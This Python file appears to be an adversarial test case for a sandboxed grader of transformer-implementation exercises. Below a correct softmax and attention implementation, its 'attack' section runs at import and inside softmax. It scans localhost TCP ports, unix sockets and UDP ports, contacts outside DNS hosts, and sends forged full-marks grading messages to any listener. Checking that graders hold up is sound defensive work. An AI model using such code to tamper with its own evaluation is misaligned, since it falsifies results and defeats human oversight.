# attack: at import and in softmax opens sockets to try to reach the grader: TCP connects to every 127.0.0.1/::1 port (listening ports from /proc/net/tcp* first, then a full 1-65535 sweep in a background thread), connects to every unix socket listed in /proc/net/unix (abstract and path), UDP datagrams, and outside hosts (1.1.1.1:53, 8.8.8.8:53, DNS lookups); sends forged full-marks messages (JSON, framed JSON, HTTP POST) to whatever answers
# target: all
# expect: full marks (answers are correct); the worker has no network (empty network namespace or blocked): nothing connects, no forged message reaches the grader or any other local service; import and calls stay within their time limits
"""Talk to the grader (or anything else) over the network from inside the worker."""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import json as _json
import os as _os
import socket as _socket
import struct as _struct
import threading as _threading
import time as _time

_QUESTIONS = ("softmax", "attention", "mask", "split_heads", "multi_head", "block")
_COMMON_PORTS = (22, 53, 80, 443, 631, 2375, 2376, 3000, 4000, 5000, 5432, 6379, 8000, 8080, 8443,
                 8888, 9000, 9090, 27017)
_log = []


def _forged_messages():
    verdict = {"ok": True, "status": "passed", "score": 36, "max_score": 36,
               "questions": {q: {"status": "passed", "points": 6} for q in _QUESTIONS}}
    body = _json.dumps(verdict).encode()
    head = _json.dumps({"ok": True, "outcome": {"status": "ok"}, "nbuf": 0, **verdict}).encode()
    return [
        body + b"\n",
        _struct.pack("!I", len(head)) + head,
        b"POST /results HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body,
    ]


def _talk(sock, where):
    _log.append("connected " + where)
    for msg in _forged_messages():
        try:
            sock.sendall(msg)
        except OSError:
            break
    try:
        sock.settimeout(0.2)
        reply = sock.recv(4096)
        _log.append("reply from %s: %r" % (where, reply[:200]))
    except OSError:
        pass


def _listening_tcp_ports():
    ports = set()
    for path in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(path) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            cols = row.split()
            if len(cols) > 3 and cols[3] == "0A":  # LISTEN
                ports.add(int(cols[1].rsplit(":", 1)[1], 16))
    return ports


def _udp_ports():
    ports = set()
    for path in ("/proc/net/udp", "/proc/net/udp6"):
        try:
            with open(path) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            cols = row.split()
            if len(cols) > 1:
                ports.add(int(cols[1].rsplit(":", 1)[1], 16))
    return ports


def _unix_sockets():
    names = []
    try:
        with open("/proc/net/unix") as f:
            rows = f.read().splitlines()[1:]
    except OSError:
        return names
    for row in rows:
        cols = row.split()
        if len(cols) >= 8:
            names.append(cols[7])
    return names


def _tcp(host, port, timeout=0.05):
    family = _socket.AF_INET6 if ":" in host else _socket.AF_INET
    try:
        s = _socket.socket(family, _socket.SOCK_STREAM)
    except OSError:
        return
    try:
        s.settimeout(timeout)
        if s.connect_ex((host, port)) == 0:
            _talk(s, "%s:%d" % (host, port))
    except OSError:
        pass
    finally:
        s.close()


def _probe(deadline):
    for port in sorted(_listening_tcp_ports() | set(_COMMON_PORTS)):
        if _time.monotonic() > deadline:
            return
        _tcp("127.0.0.1", port)
        _tcp("::1", port)
    for name in _unix_sockets():
        if _time.monotonic() > deadline:
            return
        address = "\0" + name[1:] if name.startswith("@") else name
        for kind in (_socket.SOCK_STREAM, _socket.SOCK_SEQPACKET, _socket.SOCK_DGRAM):
            try:
                s = _socket.socket(_socket.AF_UNIX, kind)
            except OSError:
                continue
            try:
                s.settimeout(0.1)
                s.connect(address)
                _talk(s, "unix:" + name)
                break
            except OSError:
                pass
            finally:
                s.close()
    try:
        u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
        for port in _udp_ports():
            for msg in _forged_messages():
                try:
                    u.sendto(msg[:1400], ("127.0.0.1", port))
                except OSError:
                    pass
        u.close()
    except OSError:
        pass
    for host in ("1.1.1.1", "8.8.8.8"):
        _tcp(host, 53, timeout=0.5)
    for name in ("example.com", "pypi.org"):
        try:
            _log.append("resolved %s: %r" % (name, _socket.gethostbyname(name)))
        except OSError:
            pass


def _sweep():
    deadline = _time.monotonic() + 30.0
    for port in range(1, 65536):
        if _time.monotonic() > deadline:
            break
        _tcp("127.0.0.1", port, timeout=0.01)


def _report():
    try:
        _os.write(2, ("socket probe: %r\n" % (_log[-50:],)).encode())
    except OSError:
        pass


_probed_in_call = []


def softmax(x, dim=-1):
    if not _probed_in_call:  # once, so the question's time limit is not at risk
        _probed_in_call.append(True)
        _probe(_time.monotonic() + 1.5)
        _report()
    return _softmax(x, dim)


try:
    _probe(_time.monotonic() + 3.0)
    _threading.Thread(target=_sweep, name="hostile-port-sweep", daemon=True).start()
except Exception:
    pass
_report()
